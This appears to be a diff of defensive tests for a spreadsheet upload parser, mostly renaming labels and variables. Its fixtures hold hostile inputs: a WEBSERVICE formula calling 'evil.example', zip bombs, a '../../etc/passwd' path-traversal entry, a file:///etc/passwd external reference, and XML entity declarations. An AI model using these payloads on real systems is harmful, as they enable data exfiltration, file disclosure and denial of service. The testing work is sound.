@@ -18,7 +18,7 @@ async function refusal(file: Buffer, bounds = {}): Promise<string> {
     () => undefined,
     (error) => error,
   )
-  expect(refused, 'it was read').toMatchObject({ status: 400, body: { Details: [] } })
+  expect(refused, 'the file was accepted').toMatchObject({ status: 400, body: { Details: [] } })
   expect(performance.now() - began).toBeLessThan(15_000)
   return refused.message
 }
@@ -87,10 +87,13 @@ describe('a sheet', () => {
   })
 
   test.each([
-    ['a shared formula of nobody', '<c r="A2"><f t="shared" si="9"/><v>1</v></c>'],
+    ['a shared formula without a definition', '<c r="A2"><f t="shared" si="9"/><v>1</v></c>'],
     ['an empty formula', '<c r="A2"><f></f><v>1</v></c>'],
     ['a formula in a namespace', '<c r="A2"><x:f>1+1</x:f><v>1</v></c>'],
-    ['a formula that calls out', '<c r="A2" t="str"><f>WEBSERVICE("https://evil.example")</f><v>x</v></c>'],
+    [
+      'a formula that sends a request',
+      '<c r="A2" t="str"><f>WEBSERVICE("https://evil.example")</f><v>x</v></c>',
+    ],
   ])('with %s has a fault in that cell', async (_, cell) => {
     const file = zip(parts(`${line(1, HEADER)}<row r="2">${cell}</row>`))
 
@@ -108,15 +111,19 @@ describe('a sheet', () => {
 
 describe('a file that is not a workbook', () => {
   test.each([
-    ['nothing', Buffer.alloc(0), 'empty'],
-    ['a text', Buffer.from(`${HEADER.join(',')}\nada,ada@example.com`), 'neither'],
-    ['a page', Buffer.from('<html><table><tr><td>UserName</td></tr></table></html>'), 'neither'],
-    ['zeros', Buffer.alloc(4_096), 'neither'],
-    ['a picture', Buffer.from('89504e470d0a1a0a', 'hex'), 'neither'],
-    ['half a beginning', Buffer.from('PK\x03'), 'neither'],
-    ['only a beginning', Buffer.from('PK\x03\x04'), 'damaged'],
-    ['another archive', zip([{ name: 'readme.txt', content: Buffer.from('hello') }]), 'not an .xlsx'],
-    ['only the beginning of an .xls', sheet('users.xls').subarray(0, 512), 'damaged'],
+    ['an empty file', Buffer.alloc(0), 'empty'],
+    ['a CSV file', Buffer.from(`${HEADER.join(',')}\nada,ada@example.com`), 'neither'],
+    ['an HTML page', Buffer.from('<html><table><tr><td>UserName</td></tr></table></html>'), 'neither'],
+    ['a file of zero bytes', Buffer.alloc(4_096), 'neither'],
+    ['a PNG image', Buffer.from('89504e470d0a1a0a', 'hex'), 'neither'],
+    ['an incomplete ZIP signature', Buffer.from('PK\x03'), 'neither'],
+    ['only a ZIP signature', Buffer.from('PK\x03\x04'), 'damaged'],
+    [
+      'a ZIP archive of other files',
+      zip([{ name: 'readme.txt', content: Buffer.from('hello') }]),
+      'not an .xlsx',
+    ],
+    ['only the first sector of an .xls file', sheet('users.xls').subarray(0, 512), 'damaged'],
   ])('%s is refused', async (_, file, message) => {
     expect(await refusal(file)).toContain(message)
   })
@@ -131,12 +138,12 @@ describe('a file that is not a workbook', () => {
 
   test('users.xls truncated at any length is refused, unless it still has all rows', async () => {
     const file = sheet('users.xls')
-    const whole = await readUsersSheet(file)
+    const allRows = await readUsersSheet(file)
     let refused = 0
     for (let length = 100; length < file.length; length += 200) {
       const rows = await readUsersSheet(file.subarray(0, length)).catch(() => undefined)
       if (rows === undefined) refused += 1
-      else expect(rows, `${length} bytes`).toEqual(whole)
+      else expect(rows, `${length} bytes`).toEqual(allRows)
     }
     expect(refused).toBeGreaterThan(20)
   })
@@ -152,19 +159,19 @@ describe('a file that is not a workbook', () => {
 })
 
 describe('a hostile archive', () => {
-  const good = parts(line(1, HEADER) + line(2, ['ada', 'ada@example.com']))
+  const validParts = parts(line(1, HEADER) + line(2, ['ada', 'ada@example.com']))
   const bomb = (bytes: number) => Buffer.alloc(bytes, 0x20)
 
   test('would be read without its malicious part', async () => {
-    expect(await cellsOf(zip(good))).toEqual([['ada', 'ada@example.com', null, null, null, null, null]])
+    expect(await cellsOf(zip(validParts))).toEqual([['ada', 'ada@example.com', null, null, null, null, null]])
   })
 
   test('that inflates beyond the limit is refused, whether in one part or in many, used or not', async () => {
-    expect(await refusal(zip([...good, { name: 'xl/media/bomb.bin', content: bomb(200 * MIB) }]))).toContain(
-      'MiB',
-    )
+    expect(
+      await refusal(zip([...validParts, { name: 'xl/media/bomb.bin', content: bomb(200 * MIB) }])),
+    ).toContain('MiB')
     const many = Array.from({ length: 40 }, (_, at) => ({ name: `xl/part${at}.xml`, content: bomb(MIB) }))
-    expect(await refusal(zip([...many, ...good]))).toContain('MiB')
+    expect(await refusal(zip([...many, ...validParts]))).toContain('MiB')
   }, 60_000)
 
   test.each([
@@ -173,12 +180,12 @@ describe('a hostile archive', () => {
     ['more', 3 * 200 * MIB],
   ])('whose part declares a wrong size (%s) is refused', async (_, declaredSize) => {
     expect(
-      await refusal(zip([...good, { name: 'xl/bomb.xml', content: bomb(100 * MIB), declaredSize }])),
+      await refusal(zip([...validParts, { name: 'xl/bomb.xml', content: bomb(100 * MIB), declaredSize }])),
     ).toMatch(/damaged|MiB/)
   })
 
   test('whose local and central headers name a part differently is read by the central name', async () => {
-    const [types, relations, book, bookRelations, users] = good
+    const [types, relations, book, bookRelations, users] = validParts
     const other = parts(line(1, HEADER) + line(2, ['eve', 'eve@example.com']))[4]
     if (!types || !relations || !book || !bookRelations || !users || !other)
       throw new Error('parts are missing')
@@ -191,22 +198,22 @@ describe('a hostile archive', () => {
   })
 
   test('with a duplicate part, too many parts, a wrong checksum, a bad name or a wrong count is refused', async () => {
-    expect(await refusal(zip([...good, ...good.slice(-1)]))).toContain('twice')
+    expect(await refusal(zip([...validParts, ...validParts.slice(-1)]))).toContain('twice')
     const many = Array.from({ length: 600 }, (_, at) => ({ name: `xl/${at}.xml`, content: Buffer.from('x') }))
-    expect(await refusal(zip([...good, ...many]))).toContain('500')
-    expect(await refusal(zip([...good, { name: 'xl/a.xml', content: Buffer.from('x'), crc: 1 }]))).toContain(
-      'damaged',
-    )
-    expect(await refusal(zip([...good, { name: '../../etc/passwd', content: Buffer.from('x') }]))).toContain(
-      'damaged',
-    )
-    expect(await refusal(zip(good, { declaredCount: 9 }))).toContain('damaged')
-    expect(await refusal(zip(good, { declaredCount: 65_535 }))).toMatch(/damaged|500/)
-    expect(await refusal(Buffer.concat([zip(good), Buffer.from('tail')]))).toContain('damaged')
+    expect(await refusal(zip([...validParts, ...many]))).toContain('500')
+    expect(
+      await refusal(zip([...validParts, { name: 'xl/a.xml', content: Buffer.from('x'), crc: 1 }])),
+    ).toContain('damaged')
+    expect(
+      await refusal(zip([...validParts, { name: '../../etc/passwd', content: Buffer.from('x') }])),
+    ).toContain('damaged')
+    expect(await refusal(zip(validParts, { declaredCount: 9 }))).toContain('damaged')
+    expect(await refusal(zip(validParts, { declaredCount: 65_535 }))).toMatch(/damaged|500/)
+    expect(await refusal(Buffer.concat([zip(validParts), Buffer.from('tail')]))).toContain('damaged')
   })
 
   test('that contains another archive is refused, and the inner archive is not read', async () => {
-    expect(await refusal(zip([{ name: 'Index.zip', content: zip(good) }]))).toContain('not an .xlsx')
+    expect(await refusal(zip([{ name: 'Index.zip', content: zip(validParts) }]))).toContain('not an .xlsx')
   })
 
   test('with a reference to another file is refused; one with a hyperlink is accepted', async () => {
@@ -216,15 +223,17 @@ describe('a hostile archive', () => {
         `<Relationships><Relationship Id="rId1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
       ),
     })
-    expect(await refusal(zip([...good, relation('oleObject', 'file:///etc/passwd')]))).toContain(
+    expect(await refusal(zip([...validParts, relation('oleObject', 'file:///etc/passwd')]))).toContain(
       'other files',
     )
-    expect(await cellsOf(zip([...good, relation('hyperlink', 'mailto:ada@example.com')]))).toHaveLength(1)
+    expect(await cellsOf(zip([...validParts, relation('hyperlink', 'mailto:ada@example.com')]))).toHaveLength(
+      1,
+    )
   })
 
   test('whose XML declares entities is read without expanding them', async () => {
     const file = zip(
-      good.map((entry) =>
+      validParts.map((entry) =>
         entry.name === 'xl/worksheets/sheet1.xml'
           ? {
               ...entry,
@@ -265,18 +274,28 @@ describe('a hostile archive', () => {
 describe.runIf(process.platform === 'linux')('the memory of the process', () => {
   const row = (number: number) => `<row r="${number}">${'<c><v>1</v></c>'.repeat(200)}</row>`
   const bomb = { name: 'xl/media/bomb.bin', content: Buffer.alloc(200 * MIB, 0x20) }
-  const ring = Array.from({ length: 8 }, (_, at) => (at < 3 ? (at + 1) % 3 : -2))
-  const backwards = Array.from({ length: 4_000 }, (_, at) => (at === 0 ? -2 : at - 1))
+  const cyclicChain = Array.from({ length: 8 }, (_, at) => (at < 3 ? (at + 1) % 3 : -2))
+  const descendingChain = Array.from({ length: 4_000 }, (_, at) => (at === 0 ? -2 : at - 1))
   const files: readonly [string, () => Buffer, number, string][] = [
     ['a sheet of people', () => sheet('users.xls'), 300, 'rows'],
-    ['an archive that inflates beyond measure', () => zip([...parts(line(1, HEADER)), bomb]), 300, 'MiB'],
+    ['an archive that inflates to 200 MiB', () => zip([...parts(line(1, HEADER)), bomb]), 300, 'MiB'],
     [
       'an archive of a million cells',
       () => zip(parts(Array.from({ length: 9_000 }, (_, at) => row(at + 1)).join(''))),
       ...([650, ''] as const),
     ],
-    ['an .xls whose chain runs into itself', () => compoundFile(ring, 1), 300, 'run into each other'],
-    ['an .xls whose chain runs backwards', () => compoundFile(backwards, 3_999), 300, 'run into each other'],
+    [
+      'an .xls file with a cyclic sector chain',
+      () => compoundFile(cyclicChain, 1),
+      300,
+      'run into each other',
+    ],
+    [
+      'an .xls file with a descending sector chain',
+      () => compoundFile(descendingChain, 3_999),
+      300,
+      'run into each other',
+    ],
   ]
 
   // Memory is read from /proc, so only on Linux. A separate process reports its peak: a thread frees its memory on exit.
